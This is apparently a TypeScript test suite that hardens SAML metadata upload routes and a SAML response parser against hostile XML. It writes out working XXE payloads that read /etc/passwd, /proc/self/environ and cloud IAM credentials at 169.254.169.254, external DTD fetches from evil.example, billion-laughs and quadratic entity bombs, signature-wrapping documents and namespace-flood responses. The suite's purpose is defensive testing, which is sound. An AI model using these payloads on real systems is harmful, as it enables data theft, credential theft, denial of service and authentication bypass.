/**
 * Hostile XML for SAML metadata, against every route in ROUTES whose form takes a `metadata` file (the
 * deprecated create, its replacement, the update …; found by their declared form schema, so a new one
 * is covered automatically) and against the pure parser behind them.
 *
 * Must be refused (400, or 413 for size) within a time bound, storing nothing (database digest):
 *   XXE (file, URL, parameter entity), billion laughs, quadratic blow-up, 10 000-deep nesting, a DOCTYPE
 *   alone or in front of valid metadata, two roots, comments and processing instructions where XML forbids
 *   them, a 100 KB attribute where the parser reads it, and signature-wrapping shapes: two
 *   EntityDescriptors side by side, an IdP entity hidden inside another entity, in its Extensions or
 *   in a ds:Signature's ds:Object.
 * Legal but odd (comments inside the certificate text, a PI before the root, a 100 KB attribute the
 * parser ignores): never a 5xx, bounded time, and if accepted, exactly what the clean document yields.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { parseIdpMetadata, MetadataError } from '../../src/saml/metadata'
import { IDP_FIXTURES } from '../fixtures/saml/corpus'
import {
  MAX_ATTRIBUTES_PER_ELEMENT,
  MAX_NAMESPACES_IN_SCOPE,
  MAX_NAMESPACES_PER_ELEMENT,
  MAX_RESPONSE_BYTES,
  parseHardened,
  SamlResponseError,
  verifySamlResponse,
} from '../../src/saml/response'
import { buildResponse, KEY_A, KEY_B, sign } from '../fixtures/saml/idp-signer'
import { BASE } from '../helpers'
import { count, dbDigest, envelopeProblem, expectSameDigest, hAdminSession, hfetch, internalLeaks, objectParts, report, routeInfo, type RouteInfo } from './lib'

/** A request (parse, store, answer) slower than this counts as a hang. Generous: CI shares two cores. */
const HTTP_BOUND_MS = 5_000
const PARSER_BOUND_MS = 2_000

const CLEAN = IDP_FIXTURES['okta.xml']
const MD = 'urn:oasis:names:tc:SAML:2.0:metadata'
const ROOT_OPEN = /<md:EntityDescriptor\b[^>]*>/
const rootOpen = CLEAN.match(ROOT_OPEN)![0]
const withoutDecl = CLEAN.replace(/^<\?xml[^>]*\?>/, '')
const entityBody = withoutDecl.slice(withoutDecl.indexOf(rootOpen) + rootOpen.length, withoutDecl.lastIndexOf('</md:EntityDescriptor>'))
const idpBlock = entityBody.match(/<md:IDPSSODescriptor[\s\S]*<\/md:IDPSSODescriptor>/)![0]
const entity = (id: string, inner = idpBlock) => `<md:EntityDescriptor xmlns:md="${MD}" entityID="${id}">${inner}</md:EntityDescriptor>`
const inRoot = (extra: string, where: 'start' | 'end' = 'start') =>
  where === 'start' ? withoutDecl.replace(rootOpen, `${rootOpen}${extra}`) : withoutDecl.replace('</md:EntityDescriptor>', `${extra}</md:EntityDescriptor>`)
const DECL = '<?xml version="1.0" encoding="UTF-8"?>'

function billionLaughs(): string {
  let dtd = '<!ENTITY lol "lol">'
  for (let i = 1; i <= 10; i++) dtd += `<!ENTITY lol${i} "${`&lol${i === 1 ? '' : i - 1};`.repeat(10)}">`
  return `${DECL}<!DOCTYPE md:EntityDescriptor [${dtd}]>${withoutDecl.replace(/entityID="[^"]*"/, 'entityID="&lol10;"')}`
}

function deep(n: number): string {
  return inRoot(`<md:Extensions>${'<x:a xmlns:x="urn:x">'.repeat(1) + '<x:a>'.repeat(n - 1)}${'</x:a>'.repeat(n)}</md:Extensions>`)
}

/** Certainly invalid metadata: each must be refused with 400 or 413. */
const HOSTILE: Record<string, () => string | Uint8Array> = {
  'XXE: file entity in entityID': () => `${DECL}<!DOCTYPE md:EntityDescriptor [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>${withoutDecl.replace(/entityID="[^"]*"/, 'entityID="&xxe;"')}`,
  'XXE: URL entity in the SSO location': () =>
    `${DECL}<!DOCTYPE md:EntityDescriptor [<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/iam/security-credentials/">]>${withoutDecl.replace(/Location="[^"]*"/, 'Location="&xxe;"')}`,
  'XXE: parameter entity fetching an external DTD': () => `${DECL}<!DOCTYPE md:EntityDescriptor [<!ENTITY % ext SYSTEM "https://evil.example/x.dtd"> %ext;]>${withoutDecl}`,
  'XXE: external DTD by PUBLIC id': () => `${DECL}<!DOCTYPE md:EntityDescriptor PUBLIC "-//EVIL//DTD" "http://evil.example/evil.dtd">${withoutDecl}`,
  'XXE: entity in element text (certificate)': () =>
    `${DECL}<!DOCTYPE md:EntityDescriptor [<!ENTITY xxe SYSTEM "file:///proc/self/environ">]>${withoutDecl.replace('<ds:X509Certificate>', '<ds:X509Certificate>&xxe;')}`,
  'billion laughs (10 levels of 10)': billionLaughs,
  'quadratic blow-up (50 KB entity referenced 10 000 times)': () =>
    `${DECL}<!DOCTYPE md:EntityDescriptor [<!ENTITY a "${'A'.repeat(50_000)}">]>${inRoot(`<md:Extensions><x xmlns="urn:x">${'&a;'.repeat(10_000)}</x></md:Extensions>`)}`,
  'quadratic blow-up without DTD (undeclared entity x 200 000)': () => inRoot(`<md:Extensions><x xmlns="urn:x">${'&a;'.repeat(200_000)}</x></md:Extensions>`),
  '10 000-deep nesting inside the entity': () => deep(10_000),
  '10 000-deep nesting as the whole document': () => `${'<a>'.repeat(10_000)}${'</a>'.repeat(10_000)}`,
  '100 000-deep unclosed nesting': () => '<a>'.repeat(100_000),
  'DOCTYPE only': () => `${DECL}<!DOCTYPE md:EntityDescriptor>`,
  'DOCTYPE in front of valid metadata': () => `${DECL}<!DOCTYPE md:EntityDescriptor>${withoutDecl}`,
  'lower-case doctype in a comment in front of valid metadata': () => `${DECL}<!-- <!doctype x> -->${withoutDecl}`,
  'two roots (two EntityDescriptors side by side)': () => `${DECL}${withoutDecl}${entity('https://evil.example/idp')}`,
  'two roots (second one is not metadata)': () => `${DECL}${withoutDecl}<evil/>`,
  'text after the root': () => `${DECL}${withoutDecl}trailing`,
  'comment before the XML declaration': () => `<!-- first -->${DECL}${withoutDecl}`,
  'XML declaration in the middle': () => inRoot(DECL),
  'processing instruction named xml after the root': () => `${DECL}${withoutDecl}<?xml version="1.0"?>`,
  'comment containing --': () => inRoot('<!-- a -- b -->'),
  'comment inside a start tag': () => withoutDecl.replace('<md:IDPSSODescriptor ', '<md:IDPSSODescriptor <!-- x --> '),
  'unterminated comment': () => inRoot('<!-- never closed', 'end'),
  'processing instruction inside an attribute value position': () => withoutDecl.replace('entityID="', 'entityID=<?pi x?>"'),
  'CDATA outside the root': () => `${DECL}<![CDATA[x]]>${withoutDecl}`,
  '100 KB entityID attribute': () => withoutDecl.replace(/entityID="[^"]*"/, `entityID="https://idp.example/${'a'.repeat(100 * 1024)}"`),
  '100 KB SSO Location attribute': () => withoutDecl.replace(/Location="[^"]*"/, `Location="https://idp.example/${'a'.repeat(100 * 1024)}"`),
  'signature wrapping: EntitiesDescriptor with two IdP EntityDescriptors': () =>
    `${DECL}<md:EntitiesDescriptor xmlns:md="${MD}">${entity('https://evil.example/idp')}${entity('http://www.okta.com/exk1a2b3c4d5E6F7g8h9')}</md:EntitiesDescriptor>`,
  'signature wrapping: IdP entity inside the Extensions of another': () => inRoot(`<md:Extensions>${entity('https://evil.example/idp')}</md:Extensions>`),
  'signature wrapping: IdP entity inside ds:Signature/ds:Object': () =>
    inRoot(
      `<ds:Signature xmlns:ds="http://www.w3.org/2000/09/xmldsig#"><ds:SignedInfo/><ds:SignatureValue>AA==</ds:SignatureValue><ds:Object>${entity('https://evil.example/idp')}</ds:Object></ds:Signature>`,
    ),
  'signature wrapping: a second IDPSSODescriptor in the same entity': () =>
    inRoot(idpBlock.replace(/Location="[^"]*"/g, 'Location="https://evil.example/sso"'), 'start'),
  'UTF-16 with BOM': () => {
    const s = `<?xml version="1.0" encoding="UTF-16"?>${withoutDecl}`
    const out = new Uint8Array(2 + s.length * 2)
    out[0] = 0xff
    out[1] = 0xfe
    for (let i = 0; i < s.length; i++) {
      out[2 + 2 * i] = s.charCodeAt(i) & 0xff
      out[3 + 2 * i] = s.charCodeAt(i) >> 8
    }
    return out
  },
  'invalid UTF-8 in the entityID': () => {
    const [a, b] = withoutDecl.split(/entityID="/)
    const enc = new TextEncoder()
    return new Uint8Array([...enc.encode(`${a}entityID="`), 0xc0, 0xaf, ...enc.encode(b)])
  },
  'NUL byte in the document': () => inRoot('\u0000'),
  'just over 1 MiB (comment padding)': () => inRoot(`<!--${'x'.repeat(1024 * 1024)}-->`),
  'empty file': () => '',
  'whitespace only': () => ' \n\t ',
}

/** Legal XML in odd shapes: never a 5xx; when accepted, the same facts as the clean document. */
const ODD_BUT_LEGAL: Record<string, () => string> = {
  'comments inside the certificate text': () => withoutDecl.replace(/<ds:X509Certificate>(.{20})/, '<ds:X509Certificate>$1<!-- c -->'),
  'processing instruction before the root': () => `${DECL}<?xml-stylesheet type="text/xsl" href="http://evil.example/x.xsl"?>${withoutDecl}`,
  'comment before the root and after it': () => `${DECL}<!-- before -->${withoutDecl}<!-- after -->`,
  '100 KB attribute on an element the parser ignores': () => inRoot(`<md:Extensions><x xmlns="urn:x" big="${'b'.repeat(100 * 1024)}"/></md:Extensions>`),
  'CDATA around the certificate text': () => withoutDecl.replace(/<ds:X509Certificate>([^<]*)</, '<ds:X509Certificate><![CDATA[$1]]><'),
}

const metadataRoutes: RouteInfo[] = routeInfo().filter(
  (r) => r.bodyKind === 'form' && Object.keys(objectParts((r.def.body as { schema: unknown }).schema)?.shape ?? {}).includes('metadata'),
)
const createRoutes = metadataRoutes.filter((r) => r.pathParams.length === 0)

let admin: Awaited<ReturnType<typeof hAdminSession>>
let existingId = ''
const timings: number[] = []

function form(name: string | null, metadata: string | Uint8Array): { body: Uint8Array; ct: string } | Promise<{ body: Uint8Array; ct: string }> {
  const f = new FormData()
  if (name !== null) f.append('name', name)
  f.append('metadata', new File([metadata], 'metadata.xml', { type: 'text/xml' }))
  const res = new Response(f)
  return res.arrayBuffer().then((b) => ({ body: new Uint8Array(b), ct: res.headers.get('content-type')! }))
}

async function post(r: RouteInfo, name: string | null, metadata: string | Uint8Array) {
  const { body, ct } = await form(name, metadata)
  const path = r.pathParams.length ? r.pathWith(Object.fromEntries(r.pathParams.map((p) => [p, existingId]))) : r.samplePath()
  const t0 = Date.now()
  const res = await hfetch(new Request(BASE + path, { method: r.method, headers: { Authorization: `Bearer ${admin.jwt}`, 'Content-Type': ct }, body }))
  const text = await res.text()
  const ms = Date.now() - t0
  timings.push(ms)
  count('requests')
  return { res, text, ms }
}

beforeAll(async () => {
  admin = await hAdminSession()
  if (createRoutes.length) {
    const r = await post(createRoutes[0], `hardening-existing-${Date.now()}`, CLEAN)
    expect(r.res.status, r.text).toBe(200)
    const body = JSON.parse(r.text) as { data: { sso_provider_id?: { int32: number } | number; id: number } }
    const sso = body.data.sso_provider_id
    existingId = String(typeof sso === 'object' && sso ? sso.int32 : (sso ?? body.data.id))
  }
}, 60_000)

afterAll(() => {
  count('max request ms', Math.max(0, ...timings))
  report('hostile-xml')
})

describe('hostile SAML metadata', () => {
  it('the route table has metadata routes (create, its replacement, update)', () => {
    expect(createRoutes.length).toBeGreaterThan(0)
    count('metadata routes', metadataRoutes.length)
  })

  it('control: the clean document is accepted by every create route (so refusals below are about the XML)', async () => {
    for (const r of createRoutes) {
      const res = await post(r, `hardening-control-${r.def.operationId}`, CLEAN)
      expect(res.res.status, `${r.label}: ${res.text.slice(0, 300)}`).toBe(200)
    }
  })

  describe('the pure parser', () => {
    for (const [name, make] of Object.entries(HOSTILE)) {
      it(`refuses: ${name}`, async () => {
        const t0 = Date.now()
        const err = await parseIdpMetadata(make(), new Date()).then(
          (v) => v,
          (e: unknown) => e,
        )
        const ms = Date.now() - t0
        count('parser cases')
        expect(err, `${name} was accepted`).toBeInstanceOf(MetadataError)
        expect([400, 413]).toContain((err as MetadataError).status)
        expect((err as MetadataError).message).not.toMatch(/root:x:0:0|169\.254/)
        expect(ms, `${name} took ${ms} ms`).toBeLessThan(PARSER_BOUND_MS)
      })
    }
  })

  for (const r of metadataRoutes) {
    describe(r.label, () => {
      for (const [name, make] of Object.entries(HOSTILE)) {
        it(`400/413, nothing stored: ${name}`, async () => {
          const before = await dbDigest()
          const a = await post(r, `hardening-${crypto.randomUUID().slice(0, 8)}`, make())
          count('route cases')
          expect([400, 413], `${name}: ${a.res.status} ${a.text.slice(0, 300)}`).toContain(a.res.status)
          expect(envelopeProblem(a.res, a.text)).toBeNull()
          expect(internalLeaks(a.text)).toEqual([])
          expect(a.text).not.toMatch(/root:x:0:0|AccessKeyId|evil\.example\/idp"/)
          expect(a.ms, `${name} took ${a.ms} ms`).toBeLessThan(HTTP_BOUND_MS)
          expectSameDigest(before, await dbDigest(), name)
        })
      }
    })
  }

  for (const r of createRoutes) {
    describe(`${r.label}: legal but odd`, () => {
      for (const [name, make] of Object.entries(ODD_BUT_LEGAL)) {
        it(`never 5xx; if accepted, the clean document's facts: ${name}`, async () => {
          const a = await post(r, `hardening-odd-${crypto.randomUUID().slice(0, 8)}`, make())
          count('route cases')
          expect(a.res.status, a.text.slice(0, 300)).toBeLessThan(500)
          expect(a.ms).toBeLessThan(HTTP_BOUND_MS)
          if (a.res.status === 200) {
            const clean = await parseIdpMetadata(CLEAN, new Date())
            const d = (JSON.parse(a.text) as { data: { idp_issuer_uri: string; idp_sso_uri: string } }).data
            expect(d.idp_issuer_uri).toBe(clean.entityId)
            expect(d.idp_sso_uri).toBe(clean.ssoUrl)
            const parsed = await parseIdpMetadata(make(), new Date())
            expect(parsed.certificates.map((c) => c.sha256_fingerprint)).toEqual(clean.certificates.map((c) => c.sha256_fingerprint))
          } else {
            expect(envelopeProblem(a.res, a.text)).toBeNull()
          }
        })
      }
    })
  }
})

/**
 * Hostile SAML responses at the assertion consumer (unauthenticated): shapes that are well-formed and
 * within the size cap but make the parser or exclusive canonicalisation spend time far beyond what a
 * real response costs. Each must be refused at intake (parseHardened), before any signature is checked,
 * with the reason and message the sign-in log carries. Timing is not asserted here (bench/ measures).
 */
describe('hostile SAML responses: namespace and attribute shapes', () => {
  /** two metadata certificates: the reported cost was paid once per certificate tried */
  const exp = () => ({
    idpEntityId: 'https://idp.hostile.example/metadata',
    certificates: [KEY_B.certBase64, KEY_A.certBase64],
    acsUrl: 'https://sp.example/api/v2/sso/x/callback',
    spEntityId: 'https://sp.example/api/v2/sso/x',
    allowSha1: false,
    now: new Date(),
  })
  const signedResponse = async () => {
    const e = exp()
    return sign(buildResponse({ idpEntityId: e.idpEntityId, acsUrl: e.acsUrl, spEntityId: e.spEntityId, inResponseTo: '_1', email: 'a@corp.example' }), 'assertion', KEY_A)
  }
  const refusal = (xml: string) => {
    try {
      verifySamlResponse(xml, exp())
    } catch (e) {
      return e
    }
    return null
  }

  it('control: a real signed response passes intake and verifies', async () => {
    const xml = await signedResponse()
    expect(() => parseHardened(xml)).not.toThrow()
    expect(verifySamlResponse(xml, exp()).inResponseTo).toBe('_1')
  })

  it(`a forged ~504 KiB response whose root declares 32,500 namespace prefixes is refused at intake`, async () => {
    const xml = await signedResponse()
    let decls = ''
    for (let i = 0; i < 32_500; i++) decls += ` xmlns:p${i.toString(36)}="u"`
    const forged = xml.replace('<samlp:Response ', `<samlp:Response${decls} `)
    expect(forged.length).toBeGreaterThan(450 * 1024)
    expect(forged.length).toBeLessThanOrEqual(MAX_RESPONSE_BYTES)
    const e = refusal(forged)
    expect(e).toBeInstanceOf(SamlResponseError)
    expect(e).toMatchObject({
      reason: 'too_many_namespaces',
      message: `the SAML response has an element with more than ${MAX_NAMESPACES_PER_ELEMENT} namespace declarations`,
    })
  })

  it('namespace declarations on one tag beyond the per-element bound (within the attribute bound) are refused', async () => {
    const xml = await signedResponse()
    let decls = ''
    for (let i = 0; i <= MAX_NAMESPACES_PER_ELEMENT; i++) decls += ` xmlns:p${i}="urn:x"`
    expect(refusal(xml.replace('<samlp:Response ', `<samlp:Response${decls} `))).toMatchObject({
      reason: 'too_many_namespaces',
      message: `the SAML response has an element with more than ${MAX_NAMESPACES_PER_ELEMENT} namespace declarations`,
    })
  })

  it('namespace declarations spread over nested elements beyond the in-scope bound are refused', async () => {
    const xml = await signedResponse()
    // 5 nested wrappers of 30 declarations each: every tag is within its own bounds, 150 are in scope inside
    const open = (n: number) => {
      let d = ''
      for (let i = 0; i < 30; i++) d += ` xmlns:q${n}_${i}="urn:x"`
      return `<samlp:Extensions${d}>`
    }
    let inner = ''
    for (let n = 0; n < 5; n++) inner += open(n)
    inner += '</samlp:Extensions>'.repeat(5)
    const nested = xml.replace('<samlp:Status>', `${inner}<samlp:Status>`)
    expect(refusal(nested)).toMatchObject({
      reason: 'too_many_namespaces',
      message: `the SAML response has more than ${MAX_NAMESPACES_IN_SCOPE} namespace declarations in scope at one element`,
    })
  })

  it('plain attributes beyond the per-element bound are refused (also inside quotes holding ">", and in a self-closing tag)', async () => {
    const xml = await signedResponse()
    let attrs = ''
    for (let i = 0; i <= MAX_ATTRIBUTES_PER_ELEMENT; i++) attrs += ` a${i}='v>${i}'`
    expect(refusal(xml.replace('<samlp:StatusCode ', `<samlp:StatusCode${attrs} `))).toMatchObject({ reason: 'too_many_attributes' })
    // the same count hidden in a comment or CDATA is text, not attributes: intake lets it through to the signature check
    const commented = xml.replace('<samlp:Status>', `<!--<x${attrs}/>--><samlp:Status>`)
    expect(refusal(commented)).not.toMatchObject({ reason: 'too_many_attributes' })
  })
})
